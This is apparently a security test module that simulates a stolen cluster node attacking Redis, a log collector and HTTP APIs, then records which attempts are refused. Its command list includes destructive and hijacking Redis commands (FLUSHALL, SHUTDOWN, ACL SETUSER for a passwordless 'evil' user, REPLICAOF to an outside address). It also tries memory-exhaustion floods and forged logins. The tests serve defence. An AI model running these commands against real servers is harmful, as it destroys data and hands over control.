"""An attacker who has everything in the folder of node n1, against a cluster in which n2 runs a task of somebody else.

``rows`` tries each thing on real servers and says what came of it; the share needs a host (``SHARE``). The result is a
table in ``docs/security.md``: ``python -m tests.support.stolen_node`` writes it there.
"""

from __future__ import annotations

import hashlib
import re
import socket
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from functools import partial
from pathlib import Path

import redis

from grass.api.invitation import Invitation
from grass.api.join_client import open_join_client
from grass.api.node_token import node_token
from grass.api.task_token import job_secret, shared_space
from grass.config import Secrets
from grass.errors import GrassError
from grass.node_config import NodeConfig, NodeHome
from grass.store.accounts import RedisAccounts
from grass.store.agent_store import AgentStore
from grass.store.embedded import find_server
from grass.store.keys import Keys
from grass.store.shared_bound import SharedBound
from grass.store.shared_store import SharedStore
from grass.wire.membership_api import SharedValue
from master.agent.floods import MOST_WAITING, Floods
from master.api.route import Access
from master.api.routes import ROUTES
from node.agent.forward import Signal
from node.api.app import create_app as node_app
from tests.support.api_world import ApiWorld, api_world
from tests.support.collector_run import JOB, Collector, block, send
from tests.support.redis_server import RedisServer
from tests.support.rsa_keys import public_jwk

PAGE = Path(__file__).parents[2] / "docs" / "security.md"
BEGIN, END = "<!-- generated: what a stolen node achieved -->\n", "<!-- end -->\n"
KEYS = Keys("grass:test:")
Row = tuple[str, str, str]
"""Where, what was tried, what came of it."""
REFUSED, DONE = "refused", "done"
SHARE: tuple[Row, ...] = (
    ("share", "read files of all users", DONE),
    ("share", "change files of all users", DONE),
    ("share", "change an image", REFUSED),
    ("share", "change logs of jobs", REFUSED),
    ("share", "put other folders in place of those of images and logs", REFUSED),
    ("share", "use it without its password", REFUSED),
    ("share", "speak SMB 2, which cannot encrypt", REFUSED),
)
"""With the password of the share. ``tests/e2e/test_create.py`` tries it on a host, and compares."""


def table(rows: list[Row]) -> str:
    lines = "".join(f"| {where} | {what} | {outcome} |\n" for where, what, outcome in rows)
    return f"| where | what was tried | what came of it |\n|---|---|---|\n{lines}"


def rows(folder: Path) -> list[Row]:
    """Try everything. ``folder``: an empty one."""
    return [*of_redis(), *of_collector(folder / "collector"), *of_api(folder / "api"), *of_other_nodes(folder), *SHARE]


def of_redis() -> Iterator[Row]:
    server = RedisServer(find_server(""), node="master")  # not an old one on PATH: hosts have redis 7.0 or newer
    server.start()
    backend = server.backend()
    try:
        accounts = RedisAccounts(backend, server.prefix)
        for name in ("n1", "n2"):
            accounts.add(name, hashlib.sha256(name.encode()).hexdigest())
        thief = redis.Redis(unix_socket_path=str(server.socket), username="node-n1", password="n1")
        with closing(thief):
            yield from (("redis", what, outcome(partial(thief.execute_command, *words))) for what, *words in _COMMANDS)
            yield ("redis", "read the values that tasks of a job on another node share", _values(thief, server))
            yield ("redis", "fill the store with values for tasks", _fill(thief, server))
            yield ("redis", "fill the memory with commands that it does not finish", _unfinished(server))
            yield ("redis", "flood its own reports", _flood(thief, server, accounts))
    finally:
        backend.close()
        server.remove()


_COMMANDS = (
    ("keep the server busy with a script", "EVAL", "while true do end", "0"),
    ("load a function", "FUNCTION", "LOAD", "#!lua name=x\nredis.register_function('f', function() end)"),
    ("read the jobs of users", "HGETALL", KEYS.jobs),
    ("read sessions of users", "GET", KEYS.session("0" * 32)),
    ("file a ticket as a user", "XADD", KEYS.tickets, "*", "body", "{}"),
    ("report for another node", "XADD", KEYS.reports("n2"), "*", "kind", "heartbeat", "body", "{}"),
    ("read what another node should run", "HGETALL", KEYS.desired("n2")),
    ("change what it should run itself", "HSET", KEYS.desired("n1"), "a", "{}"),
    ("have the certificate of another node refused", "XADD", KEYS.revoked, "*", "node", "n2", "at", "9e9"),
    ("remove wake-ups of other nodes", "XTRIM", KEYS.wakeups, "MAXLEN", "0"),
    ("list the keys of the store", "SCAN", "0"),
    ("hear of the values that tasks of all jobs share", "PSUBSCRIBE", KEYS.shared_channel("*")),
    ("change the server's configuration", "CONFIG", "SET", "dir", "/tmp"),
    ("make another user", "ACL", "SETUSER", "evil", "on", "nopass", "~*", "+@all"),
    ("empty the store", "FLUSHALL"),
    ("stop the server", "SHUTDOWN", "NOSAVE"),
    ("copy the store elsewhere", "REPLICAOF", "10.0.0.66", "6379"),
    ("watch other clients", "MONITOR"),
    ("stop other clients", "CLIENT", "PAUSE", "100000"),
)


def _values(thief: redis.Redis, server: RedisServer) -> str:
    """Try the names that the thief can make: with the job's id, and with the secret of a job of its own."""
    own, other = (job_secret("master-secret", job_id) for job_id in ("own-1", "other-1"))
    backend = server.backend()
    try:
        values = SharedStore(backend, KEYS)
        values.put(shared_space(other), "key", SharedValue("r", "theirs"), 60.0, None)
        spaces = ("other-1", shared_space(own), shared_space("other-1"), shared_space(""), "*")
        return "done" if any(thief.get(KEYS.shared(space, "key")) for space in spaces) else "nothing found"
    finally:
        backend.close()


def _fill(thief: redis.Redis, server: RedisServer) -> str:
    """Fill under random names and under those of a job of its own. Both are bounded, and another job loses nothing."""
    own, other = (shared_space(job_secret("master-secret", job_id)) for job_id in ("own-1", "other-1"))
    backend = server.backend("admin")
    try:
        values, bound = SharedStore(backend, KEYS), SharedBound(backend, KEYS.prefix, 1 << 20, 4 << 20)
        values.put(other, "key", SharedValue("r", "theirs"), 60.0, None)
        most, begun = 0, backend.used_memory()
        for number in range(200):
            thief.set(KEYS.shared(own if number % 2 else f"{number:032x}", str(number)), "x" * (1 << 18))
            bound.keep(lambda: {own, other})
            most = max(most, backend.used_memory() - begun)
        if most >= 16 << 20:
            return "done"
        kept = values.get(other, "key").value == "theirs"
        return "bounded (other jobs keep theirs)" if kept else "bounded (other jobs lose theirs)"
    finally:
        backend.close()


def _unfinished(server: RedisServer) -> str:
    """Send most of a large command on each of many connections. The limit is lowered, to fit any machine."""
    limit, piece = 32 << 20, b"x" * (8 << 20)
    with closing(
        redis.Redis(unix_socket_path=str(server.socket), username="admin", password=server.passwords["admin"])
    ) as admin:
        if not int(admin.config_get("maxmemory-clients")["maxmemory-clients"]):
            return "done"
        admin.config_set("maxmemory-clients", limit)
        begun, most, connections = admin.info("memory")["used_memory"], 0, []
        try:
            for _ in range(12):
                connections.append(socket.socket(socket.AF_UNIX))
                connections[-1].connect(str(server.socket))
                with suppress(BrokenPipeError, ConnectionResetError):
                    connections[-1].sendall(b"AUTH node-n1 n1\r\n*2\r\n$3\r\nGET\r\n$100000000\r\n" + piece)
                most = max(most, admin.info("memory")["used_memory"] - begun)
        finally:
            for connection in connections:
                connection.close()
    return "bounded (others are answered)" if most < 2 * limit else "done"


def _flood(thief: redis.Redis, server: RedisServer, accounts: RedisAccounts) -> str:
    agent = server.backend("agent")
    try:
        store, floods = AgentStore(agent, KEYS), Floods()
        store.watch("n1")
        with suppress(redis.exceptions.ConnectionError):
            for _ in range(MOST_WAITING // 5_000 + 1):
                pipe = thief.pipeline(transaction=False)
                for _ in range(5_000):
                    pipe.execute_command("XADD", KEYS.reports("n1"), "*", "kind", "heartbeat", "body", "{}")
                pipe.execute()
        found = floods.judge(store.report_sizes(), accounts.crowded(), time.monotonic())
        for node in found:
            accounts.remove(node)
            store.discard_reports(node)
        after = outcome(thief.ping)
        return f"cut off and QUARANTINED (then: {after})" if found and after != "done" else "done"
    finally:
        agent.close()


def of_collector(folder: Path) -> Iterator[Row]:
    folder.mkdir()
    collector, stop = Collector(folder), Signal()
    collector.put_task("worker.0", 1, "n2")
    own = f"grass.{JOB}.worker.0"
    try:
        for what, node, key, tag, offset in (
            ("send records without its key", "n1", "guess", own, 0),
            ("send records as another node", "n2", "key of n1", own, 0),
            ("put a line into the log of a task on another node", "n1", None, own, 0),
            ("hide later lines of that task by a huge offset", "n1", None, own, 10**15),
            ("write the log of a job that does not exist", "n1", None, "grass.none-00000000.w.0", 0),
        ):
            accepted = send(collector, stop, node, tag, block(1, "FORGED", offset), key=key)
            forged = any("FORGED" in path.read_text() for path in collector.logs.rglob("*.jsonl"))
            yield ("log collector", what, "done" if forged else "dropped and counted" if accepted else REFUSED)
        send(collector, stop, "n1", own, *[block(1, "FORGED")] * 200)
        yield (
            "log collector",
            "go on with it",
            "cut off and QUARANTINED" if collector.suspects() == ["n1"] else "done",
        )
    finally:
        collector.close()
        stop.close()


def of_api(folder: Path) -> Iterator[Row]:
    folder.mkdir()
    with api_world(folder) as world:
        Secrets({"api": "x"}, "master-secret").save(world.config.home)
        for node in ("n1", "n2"):
            record = f'{{"name": "{node}", "state": "READY"}}'
            world.backend.apply([("HSET", world.keys.nodes, node, record)])
        token = node_token("master-secret", "n1")
        kept = [route.operation for route in ROUTES if route.access is not Access.UNSIGNED and _answers(world, route)]
        said = f"done by {', '.join(kept)}" if kept else REFUSED
        yield ("API", "call each route of users without a user's key", said)
        key = world.app.extensions["grass"].authenticator.key_id
        client = open_join_client(Invitation((f"http://127.0.0.1:{world.port}",), key, "", "", "local"))
        with closing(client):
            yield ("API", "read the record of another node", outcome(lambda: client.wait("n2", token, None, 0.0)))
            yield ("API", "remove another node", outcome(lambda: client.leave("n2", token, force=True)))
            body = {"user": "root", "secret": token, "key": public_jwk("mallory")}
            yield ("API", "log in as an administrator", outcome(lambda: client.log_in(body)))
            yield ("API", "read its own record", outcome(lambda: client.wait("n1", token, None, 0.0)))


def _answers(world: ApiWorld, route: object) -> bool:
    path = re.sub(r"{\w+}", "x", str(getattr(route, "path", "")))
    token = node_token("master-secret", "n1")
    asked = {"Authorization": f"JOSE {token}"}
    reply = world.app.test_client().open(path, method=str(getattr(route, "method", "")), headers=asked, data=token)
    return reply.status_code != 401


def of_other_nodes(folder: Path) -> Iterator[Row]:
    home = folder / "n2"
    home.mkdir()
    config = NodeHome("test", "local", str(home), str(home), node=NodeConfig(name="n2"))
    client = node_app(config, node_token("master-secret", "n2")).test_client()
    headers = {"Authorization": f"Bearer {node_token('master-secret', 'n1')}"}
    body = {"key": "a-0/w.0/1", "argv": ["true"]}
    answers = [client.get("/v1/status", headers=headers), client.post("/v1/exec", json=body, headers=headers)]
    refused = all(answer.status_code == 403 for answer in answers)
    yield ("node-api of another node", "read its state, run a command there", REFUSED if refused else "done")


def outcome(attempt: Callable[[], object]) -> str:
    try:
        attempt()
    except (redis.exceptions.RedisError, GrassError):
        return REFUSED
    return "done"


def with_table(page: str, made: str) -> str:
    """Return the page with this table."""
    before, _, rest = page.partition(BEGIN)
    return before + BEGIN + made + END + rest.partition(END)[2]


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as scratch:
        PAGE.write_text(with_table(PAGE.read_text(), table(rows(Path(scratch)))))
